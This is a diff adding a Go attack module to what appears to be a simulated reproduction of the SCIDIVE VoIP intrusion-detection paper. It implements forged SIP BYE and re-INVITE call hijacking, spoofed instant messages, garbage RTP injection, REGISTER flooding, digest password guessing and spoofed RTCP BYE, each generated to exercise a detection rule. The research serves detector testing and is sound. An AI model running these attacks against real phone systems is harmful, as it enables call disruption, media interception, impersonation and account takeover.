@@ -1,0 +1,271 @@
+package attack
+
+import (
+	"fmt"
+	"net/netip"
+	"time"
+
+	"scidive/internal/rtp"
+	"scidive/internal/sdp"
+	"scidive/internal/sip"
+)
+
+// IntervalFunc maps an attempt index to its send offset from now.
+type IntervalFunc func(i int) time.Duration
+
+// FixedInterval spaces attempts evenly.
+func FixedInterval(d time.Duration) IntervalFunc {
+	return func(i int) time.Duration { return time.Duration(i) * d }
+}
+
+// ForgedBye builds and sends the paper's Figure 5 BYE attack: a BYE to
+// victim (the dialog's caller or callee, chosen by towardCaller) that
+// appears to come from the other party. The victim tears the call down;
+// the other party keeps sending RTP, producing the orphan flow SCIDIVE's
+// cross-protocol rule detects.
+func (a *Attacker) ForgedBye(d *ObservedDialog, towardCaller bool) error {
+	if !d.Confirmed {
+		return fmt.Errorf("attack: dialog %s not confirmed", d.CallID)
+	}
+	var from, to sip.Address
+	var spoof, dst netip.AddrPort
+	if towardCaller {
+		from = sip.Address{URI: d.CalleeURI}.WithTag(d.CalleeTag)
+		to = sip.Address{URI: d.CallerURI}.WithTag(d.CallerTag)
+		spoof, dst = d.CalleeSIP, d.CallerSIP
+	} else {
+		from = sip.Address{URI: d.CallerURI}.WithTag(d.CallerTag)
+		to = sip.Address{URI: d.CalleeURI}.WithTag(d.CalleeTag)
+		spoof, dst = d.CallerSIP, d.CalleeSIP
+	}
+	bye := sip.NewRequest(sip.RequestSpec{
+		Method:     sip.MethodBye,
+		RequestURI: to.URI.String(),
+		From:       from,
+		To:         to,
+		CallID:     d.CallID,
+		CSeq:       sip.CSeq{Seq: d.LastCSeq + 10, Method: sip.MethodBye},
+		Via: sip.Via{Transport: "UDP", SentBy: spoof.String(),
+			Params: map[string]string{"branch": a.idgen.Branch()}},
+	})
+	return a.SendSpoofed(spoof, dst, bye.Marshal())
+}
+
+// FakeIM sends the Figure 6 attack: an instant message delivered straight
+// to the victim with a forged From header impersonating fromURI. Unlike
+// legitimate IMs, which arrive relayed by the proxy, this one carries the
+// attacker's own source IP — the discrepancy SCIDIVE's rule checks.
+func (a *Attacker) FakeIM(victim netip.AddrPort, fromURI sip.URI, text string) error {
+	msg := sip.NewRequest(sip.RequestSpec{
+		Method:     sip.MethodMessage,
+		RequestURI: sip.URI{Host: victim.Addr().String(), Port: victim.Port()}.String(),
+		From:       sip.Address{URI: fromURI}.WithTag(a.idgen.Tag()),
+		To:         sip.Address{URI: sip.URI{Host: victim.Addr().String()}},
+		CallID:     a.idgen.CallID(a.host.IP().String()),
+		CSeq:       sip.CSeq{Seq: 1, Method: sip.MethodMessage},
+		Via: sip.Via{Transport: "UDP", SentBy: fmt.Sprintf("%s:%d", a.host.IP(), a.sipPort),
+			Params: map[string]string{"branch": a.idgen.Branch()}},
+		Body:     []byte(text),
+		BodyType: "text/plain",
+	})
+	return a.Send(a.sipPort, victim, msg.Marshal())
+}
+
+// FakeIMSpoofed is the stronger variant of the Figure 6 attack the paper
+// concedes defeats the endpoint rule: the instant message's source IP is
+// spoofed to the impersonated sender's own address, so the victim-local
+// source-stability check passes. Only cooperative detection (the
+// impersonated endpoint's detector never saw a matching send) catches it.
+func (a *Attacker) FakeIMSpoofed(victim netip.AddrPort, fromURI sip.URI, spoofSrc netip.AddrPort, text string) error {
+	msg := sip.NewRequest(sip.RequestSpec{
+		Method:     sip.MethodMessage,
+		RequestURI: sip.URI{Host: victim.Addr().String(), Port: victim.Port()}.String(),
+		From:       sip.Address{URI: fromURI}.WithTag(a.idgen.Tag()),
+		To:         sip.Address{URI: sip.URI{Host: victim.Addr().String()}},
+		CallID:     a.idgen.CallID(spoofSrc.Addr().String()),
+		CSeq:       sip.CSeq{Seq: 1, Method: sip.MethodMessage},
+		Via: sip.Via{Transport: "UDP", SentBy: spoofSrc.String(),
+			Params: map[string]string{"branch": a.idgen.Branch()}},
+		Body:     []byte(text),
+		BodyType: "text/plain",
+	})
+	return a.SendSpoofed(spoofSrc, victim, msg.Marshal())
+}
+
+// Hijack sends the Figure 7 call-hijacking attack: a forged in-dialog
+// REINVITE to the victim that appears to come from the remote party and
+// redirects the victim's outgoing media to mediaSink (typically the
+// attacker's own address). The remote party keeps transmitting to the
+// victim — the orphan flow the detection rule watches for.
+func (a *Attacker) Hijack(d *ObservedDialog, towardCaller bool, mediaSink netip.AddrPort) error {
+	if !d.Confirmed {
+		return fmt.Errorf("attack: dialog %s not confirmed", d.CallID)
+	}
+	var from, to sip.Address
+	var spoof, dst netip.AddrPort
+	var impersonated sip.URI
+	if towardCaller {
+		impersonated = d.CalleeURI
+		from = sip.Address{URI: d.CalleeURI}.WithTag(d.CalleeTag)
+		to = sip.Address{URI: d.CallerURI}.WithTag(d.CallerTag)
+		spoof, dst = d.CalleeSIP, d.CallerSIP
+	} else {
+		impersonated = d.CallerURI
+		from = sip.Address{URI: d.CallerURI}.WithTag(d.CallerTag)
+		to = sip.Address{URI: d.CalleeURI}.WithTag(d.CalleeTag)
+		spoof, dst = d.CallerSIP, d.CalleeSIP
+	}
+	contact := sip.Address{URI: sip.URI{User: impersonated.User, Host: spoof.Addr().String(), Port: spoof.Port()}}
+	sess := sdp.NewAudioSession(impersonated.User, mediaSink.Addr(), mediaSink.Port())
+	reinvite := sip.NewRequest(sip.RequestSpec{
+		Method:     sip.MethodInvite,
+		RequestURI: to.URI.String(),
+		From:       from,
+		To:         to,
+		CallID:     d.CallID,
+		CSeq:       sip.CSeq{Seq: d.LastCSeq + 20, Method: sip.MethodInvite},
+		Via: sip.Via{Transport: "UDP", SentBy: spoof.String(),
+			Params: map[string]string{"branch": a.idgen.Branch()}},
+		Contact:  &contact,
+		Body:     sess.Marshal(),
+		BodyType: "application/sdp",
+	})
+	return a.SendSpoofed(spoof, dst, reinvite.Marshal())
+}
+
+// InjectGarbageRTP sends the Figure 8 RTP attack: count packets of random
+// bytes (header and payload alike) to the victim's media port. Depending
+// on the client these corrupt the jitter buffer, garble audio, or crash
+// the phone.
+func (a *Attacker) InjectGarbageRTP(victimMedia netip.AddrPort, count, size int) error {
+	if size <= 0 {
+		size = 172 // typical G.711 packet size
+	}
+	rng := a.host.Sim().Rand()
+	for i := 0; i < count; i++ {
+		garbage := make([]byte, size)
+		rng.Read(garbage)
+		if err := a.Send(40666, victimMedia, garbage); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// RegisterFlood mounts the Section 3.3 DoS: count unauthenticated
+// REGISTERs for aor fired at the proxy at the given interval, ignoring
+// every 401. The requests share a Call-ID with increasing CSeq, as a
+// naive flooding tool would send them.
+func (a *Attacker) RegisterFlood(proxyAddr netip.AddrPort, aor sip.URI, count int, interval IntervalFunc) {
+	callID := a.idgen.CallID(a.host.IP().String())
+	me := sip.Address{URI: aor}
+	contact := sip.Address{URI: sip.URI{User: aor.User, Host: a.host.IP().String(), Port: a.sipPort}}
+	for i := 0; i < count; i++ {
+		i := i
+		a.host.Sim().Schedule(interval(i), func() {
+			req := sip.NewRequest(sip.RequestSpec{
+				Method:     sip.MethodRegister,
+				RequestURI: sip.URI{Host: proxyAddr.Addr().String(), Port: proxyAddr.Port()}.String(),
+				From:       me.WithTag(a.idgen.Tag()),
+				To:         me,
+				CallID:     callID,
+				CSeq:       sip.CSeq{Seq: uint32(i + 1), Method: sip.MethodRegister},
+				Via: sip.Via{Transport: "UDP", SentBy: fmt.Sprintf("%s:%d", a.host.IP(), a.sipPort),
+					Params: map[string]string{"branch": a.idgen.Branch()}},
+				Contact: &contact,
+			})
+			_ = a.Send(a.sipPort, proxyAddr, req.Marshal())
+		})
+	}
+}
+
+// PasswordGuess mounts the Section 3.3 brute-force attack: count REGISTER
+// attempts, each answering the server's challenge with a different
+// guessed password. Every attempt draws a fresh 401.
+func (a *Attacker) PasswordGuess(proxyAddr netip.AddrPort, aor sip.URI, realm string, guesses []string, interval IntervalFunc) {
+	callID := a.idgen.CallID(a.host.IP().String())
+	me := sip.Address{URI: aor}
+	contact := sip.Address{URI: sip.URI{User: aor.User, Host: a.host.IP().String(), Port: a.sipPort}}
+	uri := sip.URI{Host: proxyAddr.Addr().String(), Port: proxyAddr.Port()}.String()
+	nonces := make(chan string, 1)
+	a.onResponse = func(_ netip.AddrPort, m *sip.Message) {
+		if m.StatusCode != sip.StatusUnauthorized {
+			return
+		}
+		if chal, err := sip.ParseChallenge(m.Headers.Get(sip.HdrWWWAuth)); err == nil {
+			select {
+			case <-nonces:
+			default:
+			}
+			nonces <- chal.Nonce
+		}
+	}
+	send := func(i int, authz string) {
+		req := sip.NewRequest(sip.RequestSpec{
+			Method:     sip.MethodRegister,
+			RequestURI: uri,
+			From:       me.WithTag(a.idgen.Tag()),
+			To:         me,
+			CallID:     callID,
+			CSeq:       sip.CSeq{Seq: uint32(i + 1), Method: sip.MethodRegister},
+			Via: sip.Via{Transport: "UDP", SentBy: fmt.Sprintf("%s:%d", a.host.IP(), a.sipPort),
+				Params: map[string]string{"branch": a.idgen.Branch()}},
+			Contact: &contact,
+		})
+		if authz != "" {
+			req.Headers.Add(sip.HdrAuthorization, authz)
+		}
+		_ = a.Send(a.sipPort, proxyAddr, req.Marshal())
+	}
+	// First request elicits a challenge; each subsequent attempt uses the
+	// latest nonce with the next guessed password. Guesses are offset by a
+	// grace period so the first challenge has time to arrive.
+	const challengeGrace = 50 * time.Millisecond
+	send(0, "")
+	for i, guess := range guesses {
+		i, guess := i, guess
+		a.host.Sim().Schedule(challengeGrace+interval(i), func() {
+			var nonce string
+			select {
+			case nonce = <-nonces:
+			default:
+				return // no challenge yet; skip this guess
+			}
+			creds := sip.Credentials{
+				Username: aor.User, Realm: realm, Nonce: nonce, URI: uri,
+				Response: sip.DigestResponse(aor.User, realm, guess, nonce, sip.MethodRegister, uri),
+			}
+			send(i+1, creds.String())
+		})
+	}
+}
+
+// SpoofedRTCPBye sends a forged RTCP BYE to the victim's RTCP port,
+// spoofing the remote party's media source. Clients that honour RTCP BYE
+// stop transmitting — the call goes silent while the SIP dialog stays up,
+// a media-plane DoS spanning three protocols (SIP state, RTP media, RTCP
+// control). SCIDIVE's rtcp-bye-spoof rule catches the RTCP BYE that has
+// no corresponding SIP BYE.
+func (a *Attacker) SpoofedRTCPBye(d *ObservedDialog, towardCaller bool) error {
+	if !d.Confirmed {
+		return fmt.Errorf("attack: dialog %s not confirmed", d.CallID)
+	}
+	var victimMedia, spoofMedia netip.AddrPort
+	var ssrc uint32
+	if towardCaller {
+		victimMedia, spoofMedia, ssrc = d.CallerMedia, d.CalleeMedia, d.CalleeSSRC
+	} else {
+		victimMedia, spoofMedia, ssrc = d.CalleeMedia, d.CallerMedia, d.CallerSSRC
+	}
+	if !victimMedia.IsValid() || !spoofMedia.IsValid() {
+		return fmt.Errorf("attack: dialog %s media endpoints unknown", d.CallID)
+	}
+	bye := &rtp.Bye{SSRCs: []uint32{ssrc}, Reason: "teardown"}
+	buf, err := rtp.MarshalCompound([]rtp.RTCPPacket{bye})
+	if err != nil {
+		return err
+	}
+	dst := netip.AddrPortFrom(victimMedia.Addr(), victimMedia.Port()+1)
+	spoof := netip.AddrPortFrom(spoofMedia.Addr(), spoofMedia.Port()+1)
+	return a.SendSpoofed(spoof, dst, buf)
+}
